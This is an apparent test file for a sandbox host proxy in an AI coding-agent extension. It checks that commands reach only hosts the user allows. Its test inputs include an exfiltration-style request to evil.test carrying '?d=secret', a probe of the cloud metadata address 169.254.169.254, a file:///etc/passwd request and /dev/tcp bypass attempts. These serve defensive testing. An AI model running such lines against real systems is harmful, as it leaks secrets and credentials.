import assert from "node:assert/strict";
import { once } from "node:events";
import { createServer, type Server } from "node:http";
import { connect, createServer as createTcpServer } from "node:net";
import { join } from "node:path";
import type { PermissionRequest } from "../../../src/extension/approvals/permission.ts";
import { requestDetail } from "../../../src/extension/approvals/requestText.ts";
import type { FetchAddress } from "../../../src/extension/fetching/address.ts";
import { CommandSandbox } from "../../../src/extension/sandbox/commandSandbox.ts";
import { type HostGate, startHostProxy } from "../../../src/extension/sandbox/hostProxy.ts";
import { Commands } from "../../../src/extension/terminal/commands.ts";
import { OutputStore } from "../../../src/extension/terminal/outputStore.ts";
import { endText } from "../../../src/extension/tools/commandText.ts";
import { createReadVersions, editorTools } from "../../../src/extension/tools/index.ts";
import { memoryWorkspace } from "../../support/memoryWorkspace.ts";
import { scriptedReview } from "../../support/scriptedReview.ts";
import { runTool } from "../../support/toolContext.ts";
import { patienceMs } from "../terminal/support.ts";
import { machineProbe, type SandboxBench, sandboxBench } from "./support.ts";

/** Speaks to a proxy as programs do that know of the variables alone; what it got, on one line. */
const client = `
const { request } = require("http");
const [, method, target, host] = process.argv;
const proxy = new URL(process.env.http_proxy);
const print = (status, body) => console.log(status + " " + body.trim());
const ask = (options) => new Promise((resolve) => {
  const sent = request({ hostname: proxy.hostname, port: proxy.port, ...options });
  sent.on("error", (error) => resolve(print("error", error.code)));
  sent.on("connect", (answer, socket, head) => {
    let text = String(head);
    socket.on("data", (data) => { text += data; });
    if (answer.statusCode === 200) socket.write("GET /tunnel HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n");
    socket.on("close", () => resolve(print(answer.statusCode, text.split("\\r\\n\\r\\n").at(-1))));
  });
  sent.on("response", (answer) => {
    let text = "";
    answer.on("data", (data) => { text += data; });
    answer.on("end", () => resolve(print(answer.statusCode, text)));
  });
  sent.end();
});
ask(method === "CONNECT" ? { method, path: target } : { method, path: target, headers: { host: host ?? "x" } });
`;

describe("hosts that a command in the sandbox reaches", function () {
  this.timeout(patienceMs);
  let bench: SandboxBench;
  let server: Server;
  let port = 0;
  const asked: FetchAddress[] = [];

  before(async function () {
    if (!(await machineProbe()).isAvailable) return this.skip();
    bench = await sandboxBench();
    server = createServer((incoming, response) => response.end(`${incoming.headers.host} ${incoming.url}`));
    server.listen(0, "127.0.0.1");
    await once(server, "listening");
    const address = server.address();
    assert.ok(typeof address === "object" && address !== null);
    port = address.port;
  });
  beforeEach(() => asked.splice(0));
  after(async () => {
    await bench?.close();
    server?.close();
  });

  const gate = (mayReach: (address: FetchAddress) => boolean): HostGate => ({
    async allow(address) {
      asked.push(address);
      return mayReach(address);
    },
    lookup: async () => ["127.0.0.1"],
  });
  async function run(command: string, hosts: HostGate) {
    const launch = await bench.launch(bench.workspace, hosts);
    const program = `'${launch.bridge?.program ?? assert.fail("There is no bridge.")}'`;
    return bench.run(
      command.replaceAll("CLIENT", () => `${program} -e '${client}'`),
      { sandbox: launch },
    );
  }

  it("are those that the user allows, each asked for once, and again where its name leads to this machine", async () => {
    const line = `CLIENT GET http://shop.example.org:${port}/a other.test && CLIENT GET http://shop.example.org:${port}/b`;
    const { text, end } = await run(
      line,
      gate(() => true),
    );
    assert.equal(text, `200 shop.example.org:${port} /a\n200 shop.example.org:${port} /b\n`);
    assert.deepEqual(
      asked.map(({ url, isPrivate, concerns }) => [url.href, isPrivate, concerns]),
      [
        [`http://shop.example.org:${port}/`, false, []],
        [`http://shop.example.org:${port}/`, true, ["Its name leads to 127.0.0.1."]],
      ],
    );
    assert.deepEqual(end.sandboxed?.refusedHosts, []);
    assert.equal(end.leftBehind, 0);
  });

  it("are reached through tunnels too, which is another question than without encryption", async () => {
    const line = `CLIENT CONNECT shop.example.org:${port} && CLIENT GET http://shop.example.org:${port}/b`;
    const { text } = await run(
      line,
      gate(() => true),
    );
    assert.equal(text, `200 x /tunnel\n200 shop.example.org:${port} /b\n`);
    assert.deepEqual([...new Set(asked.map(({ url }) => url.protocol))], ["https:", "http:"]);
  });

  it("85 are not those that the user refuses, and the result names them", async () => {
    const line = `CLIENT CONNECT evil.test:443; CLIENT GET http://evil.test/?d=secret; CLIENT CONNECT 169.254.169.254:80`;
    const { text, end } = await run(
      line,
      gate(() => false),
    );
    assert.equal(
      text,
      [
        "403 The user did not allow evil.test.",
        "403 The user did not allow evil.test.",
        "403 The user did not allow 169.254.169.254:80.\n",
      ].join("\n"),
    );
    assert.deepEqual(end.sandboxed?.refusedHosts, ["evil.test", "169.254.169.254:80"]);
    assert.match(endText(end), /did not allow it to reach evil\.test, 169\.254\.169\.254:80\./);
    assert.equal(asked.at(-1)?.isPrivate, true);
  });

  it("are where the name led when that was allowed, wherever it leads by then, which is asked for again", async () => {
    const leads = ["127.0.0.1", "127.9.9.9"];
    const hosts = { ...gate(({ leadsTo }) => leadsTo !== "127.9.9.9"), lookup: async () => leads.splice(0, 1) };
    const line = `CLIENT GET http://shop.example.org:${port}/a; CLIENT GET http://shop.example.org:${port}/b`;
    const { text } = await run(line, hosts);
    assert.equal(text, `200 shop.example.org:${port} /a\n403 The user did not allow shop.example.org:${port}.\n`);
    assert.deepEqual(
      asked.map(({ leadsTo }) => leadsTo),
      [undefined, "127.0.0.1", "127.9.9.9"],
    );
  });

  it("are none where a public name that was allowed leads into a private network that was not", async () => {
    const { text } = await run(
      `CLIENT GET http://shop.example.org:${port}/`,
      gate(({ isPrivate }) => !isPrivate),
    );
    assert.match(text, /^403 /);
    assert.equal(asked.length, 2);
  });

  it("end the program's request when their answer breaks off", async () => {
    const broken = createTcpServer((socket) => {
      socket.on("error", () => {});
      socket.once("data", () => socket.end("HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\npart"));
    });
    broken.listen(0, "127.0.0.1");
    await once(broken, "listening");
    const address = broken.address();
    assert.ok(typeof address === "object" && address !== null);
    try {
      const get = `(printf 'GET http://shop.example.org:${address.port}/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' >&3; cat <&3)`;
      const { text, end } = await run(
        `exec 3<>/dev/tcp/127.0.0.1/49190; ${get}`,
        gate(() => true),
      );
      assert.match(text, /^HTTP\/1\.1 200 OK[\s\S]*part$/);
      assert.equal(end.cause, "exit");
    } finally {
      broken.close();
    }
  });

  it("are none by another way than the proxy", async () => {
    const direct = `exec 3<>/dev/tcp/127.0.0.1/${port} && echo reached`;
    const { text } = await run(
      direct,
      gate(() => true),
    );
    assert.doesNotMatch(text, /^reached/m);
    assert.deepEqual(asked, []);
  });

  it("are asked for ten times by one command at most", async () => {
    const names = Array.from({ length: 14 }, (_, index) => `CLIENT CONNECT h${index}.test:443`).join("; ");
    const { end } = await run(
      names,
      gate(() => false),
    );
    assert.equal(asked.length, 10);
    assert.equal(end.sandboxed?.refusedHosts.length, 14);
  });

  for (const request of ["GET http://127.0.0.1:PORT/ HTTP/1.1", "CONNECT 127.0.0.1:PORT HTTP/1.1"]) {
    it(`are left again when the program closed its ${request.split(" ")[0]} while the user was asked`, async () => {
      const answer = Promise.withResolvers<boolean>();
      const question = Promise.withResolvers<void>();
      const socket = join(bench.base, "closed.sock");
      const proxy = await startHostProxy(socket, {
        allow: () => {
          question.resolve();
          return answer.promise;
        },
      });
      try {
        const program = connect(socket);
        program.write(`${request.replace("PORT", String(port))}\r\nHost: x\r\n\r\n`);
        await question.promise;
        program.destroy();
        // By the time of this answer the proxy has seen that the connection is closed.
        const other = connect(socket);
        other.write("GET /nothing HTTP/1.1\r\nHost: x\r\n\r\n");
        await once(other, "data");
        other.destroy();
        const reached = once(server, "connection");
        answer.resolve(true);
        const [opened] = await reached;
        if (!opened.destroyed) await once(opened, "close");
      } finally {
        proxy.close();
      }
    });
  }

  it("are not named by what is no address", async () => {
    const odd = [
      "CONNECT evil.test",
      "CONNECT user@evil.test:443",
      "CONNECT a:99999",
      "GET /etc",
      "GET file:///etc/passwd",
    ];
    const { text } = await run(
      odd.map((each) => `CLIENT ${each}`).join("; "),
      gate(() => true),
    );
    assert.deepEqual(
      text
        .trim()
        .split("\n")
        .map((line) => line.slice(0, 3)),
      odd.map(() => "400"),
    );
    assert.deepEqual(asked, []);
  });

  it("are no longer asked for when the command has ended, and no other program gets to them", async () => {
    const ended = Promise.withResolvers<void>();
    const question = Promise.withResolvers<void>();
    const hosts: HostGate = {
      allow: (_, signal) =>
        new Promise((resolve) => {
          question.resolve();
          signal.addEventListener("abort", () => {
            ended.resolve();
            resolve(false);
          });
        }),
    };
    const launch = await bench.launch(bench.workspace, hosts);
    const socket = launch.options[launch.options.indexOf("/run/arbor/hosts") - 1] ?? assert.fail();
    const running = await bench.start(`'${launch.bridge?.program}' -e '${client}' CONNECT shop.example.org:443`, {
      sandbox: launch,
    });
    await question.promise;
    await running.stop("stopped");
    await ended.promise;
    const late = connect(socket);
    await assert.rejects(once(late, "connect"));
  });

  it("are asked of the user as fetch_url asks, by the tool that runs the command", async () => {
    const askedFor: PermissionRequest[] = [];
    const outputs = new OutputStore(join(bench.base, "outputs of the tool"));
    const own = new CommandSandbox({
      ...{ setting: () => "auto", probe: machineProbe, roots: () => [bench.workspace], home: bench.home },
    });
    const commands = new Commands({
      ...{
        outputs,
        environment: { ...process.env, SHELL: "/bin/bash" },
        keyNames: () => [],
        graceMs: 50,
        sandbox: own,
      },
    });
    const workspace = memoryWorkspace();
    const tools = editorTools({
      ...{ workspace, review: scriptedReview(workspace), reads: createReadVersions(), agentPath: () => ["main"] },
      commands: {
        ...{ commands, outputs, sandbox: own },
        folder: async () => ({ path: "shop", absolute: bench.workspace, root: bench.workspace }),
        askPermission: async (request) => {
          askedFor.push(request);
          return request.kind === "command" ? { allowed: true } : { allowed: false };
        },
      },
    });
    const tool = tools.all.find(({ name }) => name === "run_command") ?? assert.fail();
    const command = `exec 3<>"/dev/tcp/$(printf %s "$https_proxy" | tr / ' ' | cut -c 8- | tr : /)"
printf 'CONNECT evil.example.org:443 HTTP/1.1\\r\\n\\r\\n' >&3
cat <&3`;
    const { text } = await runTool(tool, { command });
    assert.match(text, /403 Forbidden[\s\S]*did not allow evil\.example\.org/);
    assert.match(text, /The user did not allow it to reach evil\.example\.org\./);
    const [, question] = askedFor;
    assert.ok(question?.kind === "fetch" && askedFor.length === 2);
    assert.deepEqual(
      [question.url, question.host, question.toolName],
      [...["https://evil.example.org/", "evil.example.org", "run_command"]],
    );
    assert.equal(requestDetail(question), "from evil.example.org\nfor a command that runs in the sandbox");
    commands.dispose();
  });
});
